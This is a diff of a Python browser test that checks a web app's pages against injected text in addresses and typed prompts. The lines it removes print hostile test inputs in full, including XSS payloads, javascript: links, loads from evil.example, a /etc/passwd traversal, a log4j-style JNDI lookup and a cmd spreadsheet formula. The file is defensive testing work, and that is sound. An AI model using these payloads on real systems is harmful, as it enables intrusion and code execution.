@@ -1,7 +1,9 @@
-"""Texts that are code to somebody: typed and in addresses, on every page.
+"""Texts that are code to somebody, in a browser: in the address and typed.
 
 Nothing may be run, nothing may be asked of another machine, and what stands in the box
-is what was typed.
+is what was typed. Every page is opened once, with such a text in its address, and the
+others are typed into the open page; `attack/addressed.py` tries all of them in
+addresses, without a browser.
 """
 
 import time
@@ -11,34 +13,12 @@ from urllib.parse import quote
 
 from playwright.sync_api import Browser, Dialog, Page
 
+from attack.evil_texts import EVIL, TEXTS
 from attack.forged import ADDRESSES
 from attack.tally import Tally
 from attack.watched import Watched, watched_server
 from bench.browser import Guard, chromium, new_page, prompt_box, settled, type_prompt
 from components.page_views import page_views
-
-RAN = "window.ran=1"
-EVIL = "http://evil.example"
-TEXTS = (
-    f"<script>{RAN}</script>",
-    f'<img src=x onerror="{RAN}">',
-    f"</textarea><svg onload={RAN}>",
-    f"</script><script>{RAN}</script>",
-    f'"><iframe src="{EVIL}" onload="{RAN}"></iframe>',
-    f"[press](javascript:{RAN}) <{EVIL}>",
-    f"![picture]({EVIL}/x.png)",
-    f"$\\href{{javascript:{RAN}}}{{x}}$ $$\\includegraphics{{{EVIL}/x.png}}$$",
-    f"<style>@import '{EVIL}/x.css';</style>",
-    f"<link rel=stylesheet href={EVIL}/x.css>",
-    f"${{{RAN}}} {{{{{RAN}}}}} `{RAN}`",
-    f"';{RAN};//",
-    f'datum.value; {RAN} || "if" if then it',
-    ":red[:material/home: **bold**] :streamlit: <b>b</b>",
-    "\u202eabc\u202c \u200d \ufeff 👩\u200d👩\u200d👧 ไทย שלום",
-    "__proto__ constructor toString eval(1)",
-    "../../../etc/passwd %s%n%x ${jndi:ldap://evil.example/a}",
-    '=cmd|" /C calc"!A0',
-)  # fmt: skip
 
 
 def injections(
@@ -46,6 +26,7 @@ def injections(
 ) -> Tally:
     """The tally of these texts on these pages, for about as long."""
     tally, until = Tally("injections"), time.monotonic() + seconds
+    opened = 0
     for number, path in enumerate(pages):
         stop = time.monotonic() + (until - time.monotonic()) / (len(pages) - number)
         guard = Guard()
@@ -54,12 +35,13 @@ def injections(
             page.on("dialog", partial(_close, asked))
             # Another text to begin with on every page, or the last is never tried.
             turned = TEXTS[number % len(TEXTS) :] + TEXTS[: number % len(TEXTS)]
-            for text in turned:
-                _try(page, watched.url, path, text, tally)
-                if time.monotonic() > stop:
-                    break
+            opened += 1
+            _open(page, watched.url, path, turned[0], tally)
+            if page_views(path).reads_text:
+                _type(page, path, turned[1:], stop, tally)
             tally.note(f"/{path}", *guard.left, *asked)
     tally.note("the server", watched.alive(), *watched.left())
+    tally.facts.append(f"{len(TEXTS)} texts, {opened} of {len(ADDRESSES)} pages opened")
     return tally
 
 
@@ -68,17 +50,24 @@ def _close(asked: list[str], dialog: Dialog) -> None:
     dialog.dismiss()
 
 
-def _try(page: Page, url: str, path: str, text: str, tally: Tally) -> None:
-    about = page_views(path)
-    said = quote(text)
+def _open(page: Page, url: str, path: str, text: str, tally: Tally) -> None:
+    about, said = page_views(path), quote(text)
     settings = "".join(f"&{name}={said}" for name in sorted(about.names))
     page.goto(f"{url}/{path}?model=minilm-l6&text={said}{settings}")
     settled(page)
     tally.note(f"/{path} addressed {text!r}", *_wrong(page, text, about.reads_text))
-    if about.reads_text:
+
+
+def _type(
+    page: Page, path: str, texts: Sequence[str], stop: float, tally: Tally
+) -> None:
+    """Type one at least, and on until it is time to stop."""
+    for text in texts:
         typed = f"typed {text}"
         type_prompt(page, typed)
         tally.note(f"/{path} {typed!r}", *_wrong(page, typed, reads_text=True))
+        if time.monotonic() > stop:
+            break
 
 
 def _wrong(page: Page, text: str, reads_text: bool) -> list[str]:
@@ -95,7 +84,7 @@ def _wrong(page: Page, text: str, reads_text: bool) -> list[str]:
     return wrong
 
 
-def run(seconds: float = 150) -> Tally:
+def run(seconds: float = 75) -> Tally:
     """Every page, in a Chromium and with a server of its own."""
     with watched_server() as watched, chromium() as browser:
         return injections(watched, browser, ADDRESSES, seconds)
